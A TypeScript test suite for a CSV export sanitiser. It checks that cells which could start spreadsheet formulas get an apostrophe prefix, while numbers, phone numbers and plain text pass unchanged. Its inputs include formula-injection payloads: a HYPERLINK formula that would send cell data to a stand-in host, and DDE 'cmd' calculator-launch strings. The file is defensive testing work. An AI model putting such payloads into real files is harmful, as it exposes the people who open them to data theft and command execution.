import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, recordsToCsv } from '../../functions/core/jobs/csv-output.ts';

/** The cells of a CSV as a spreadsheet's importer reads them (quotes removed). */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.trimEnd(), { header: false }).data;

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?q="&A1,"click")'],
    ["+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ["-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['=1+1\nsecond line'],
    ['  =1+1'],
    ['\n@SUM(A1:A9)'],
    ['-'],
    ['+'],
    ['@'],
    ['='],
    ['+1 555 CALL NOW'],
    ['+1-555-0100+cmd|x'],
    ['-1e5+A1'],
  ])('prefixes %j with an apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('prefixes a cell that starts with a tab or CR even when no formula follows (OWASP)', () => {
    expect(neutraliseFormula('\tindented')).toBe("'\tindented");
    expect(neutraliseFormula('\rx')).toBe("'\rx");
  });

  it.each(['-12.5', '+3', '-0', '1e-3', '-1.5E+10', '.5', '-.5', '12.', '+15551234567', '+1 555 123 4567', '+1 (555) 123-4567', '+44 20 7946 0958', '+33.1.23.45.67.89'])(
    'leaves the number or phone number %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it.each(['Acme, Inc.', 'a=b', 'x+y', 'user@example.com', '12:34', '2025-01-01', '', ' ', "'=already text"])('leaves ordinary text %j alone', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('recordsToCsv', () => {
  it('neutralises every text cell and the header, never a JSON number', () => {
    const lines = [
      JSON.stringify({ name: '=HYPERLINK("http://evil.example","x")', phone: '+15551234567', amount: -12.5, tags: ['@SUM(A1)', 'ok'], note: '-2+3+cmd|x' }),
      JSON.stringify({ name: '\t=1+1', phone: null, amount: 3, tags: [], note: 'plain' }),
    ];
    const csv = recordsToCsv(lines, ['name', 'phone', 'amount', 'tags', 'note', '=evil_column'], true);
    expect(cellsOf(csv)).toEqual([
      ['name', 'phone', 'amount', 'tags', 'note', "'=evil_column"],
      ['\'=HYPERLINK("http://evil.example","x")', '+15551234567', '-12.5', "'@SUM(A1);ok", "'-2+3+cmd|x", ''],
      ["'\t=1+1", '', '3', '', 'plain', ''],
    ]);
  });

  it('no cell of the output starts a formula, whatever the records hold', () => {
    const nasty = ['=1', '+1+A1', '-A1', '@A1', '\t=1', '\r=1', ' =1', '\n=1', '=1\n=2'];
    const lines = nasty.map((v) => JSON.stringify({ a: v, b: [v], c: { v } }));
    for (const row of cellsOf(recordsToCsv(lines, ['a', 'b', 'c'], false))) {
      for (const value of row) expect(value.trimStart(), JSON.stringify(value)).not.toMatch(/^[=+\-@]/);
    }
  });
});

describe('neutraliseFormula at its edges', () => {
  it.each(['-12.', '+12.50', '-.55', '-1e5', '+2E-3', '\t5'])('leaves the signed or indented number %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it.each(['-1 2', '=1+15551234567', '+1e', '-.'])('prefixes %j, which is neither a number nor a phone number', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves a tab or CR inside a cell alone', () => {
    expect(neutraliseFormula('a\tb')).toBe('a\tb');
    expect(neutraliseFormula('a\r\nb')).toBe('a\r\nb');
  });
});

describe('recordsToCsv, byte for byte', () => {
  it('ends lines with LF, writes objects as JSON, and leaves the header out when asked', () => {
    const lines = [JSON.stringify({ a: { x: 1 }, b: true }), JSON.stringify({ a: 'p', b: 2 })];
    expect(recordsToCsv(lines, ['a', 'b'], true)).toBe('a,b\n"{""x"":1}",true\np,2\n');
    expect(recordsToCsv(lines, ['a', 'b'], false)).toBe('"{""x"":1}",true\np,2\n');
  });
});
